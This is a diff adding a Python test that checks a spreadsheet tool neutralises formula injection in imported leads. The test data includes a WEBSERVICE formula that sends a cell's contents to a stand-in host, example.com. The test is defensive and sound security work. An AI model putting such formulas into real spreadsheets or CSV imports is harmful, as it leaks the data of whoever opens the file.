@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import datetime as dt
+import re
 import shutil
 import zipfile
 from collections.abc import Callable
@@ -292,3 +293,46 @@ def test_a_workbook_that_only_a_cloud_has_is_filled(path: Path) -> None:
         state.in_cloud = True
         actions.import_file(state.book, source, "leads")
         assert "L900" in read.read_table(state.book, tables.LEADS)["lead_id"].tolist()
+
+
+ATTACK = '=WEBSERVICE("http://example.com/?"&A1)'
+
+
+@pytest.mark.parametrize("host", ["file", "excel"])
+def test_repair_and_undo_leave_a_text_that_begins_a_formula_text(host: str, path: Path) -> None:
+    with opened(path, "file") as book:
+        leads = path.with_name("more.csv")
+        quoted = ATTACK.replace('"', '""')
+        leads.write_text(f'Lead ID,Company,Income\nL900,"{quoted}",10\n')
+        actions.import_file(book, leads, "leads")
+        place = read.find_table(book, tables.LEADS)
+        row = read.raw_frame(place)["lead_id"].eq("L900").to_numpy().argmax()
+        place.block(int(row), place.offsets["income"], 1, 1).value = "1,200.50 €"
+        place.block(int(row), place.offsets["name"], 1, 1).value = ATTACK
+        place.block(-1, place.offsets["owner"], 1, 1).value = ATTACK
+
+    def mended(book: xw.Book) -> None:
+        actions.repair(book)
+        lead = read.read_table(book, tables.LEADS).set_index("lead_id").loc["L900"]
+        assert (lead["name"], lead["company"], lead["income"]) == (ATTACK, ATTACK, 1200.5)
+        actions.undo(book)
+        cells = read.raw_frame(read.find_table(book, tables.LEADS)).set_index("lead_id")
+        assert cells.loc["L900", ["name", "company", "income"]].tolist() == [
+            ATTACK,
+            ATTACK,
+            "1,200.50 €",
+        ]
+
+    if host == "file":
+        with opened(path, "file") as book:
+            mended(book)
+        assert b"WEBSERVICE" not in b"".join(re.findall(rb"<f>[^<]*</f>", _sheets(path)))
+        return
+    with strict_excel(path) as state:
+        mended(state.book)
+
+
+def _sheets(path: Path) -> bytes:
+    with zipfile.ZipFile(path) as package:
+        names = [name for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
+        return b"".join(map(package.read, names))
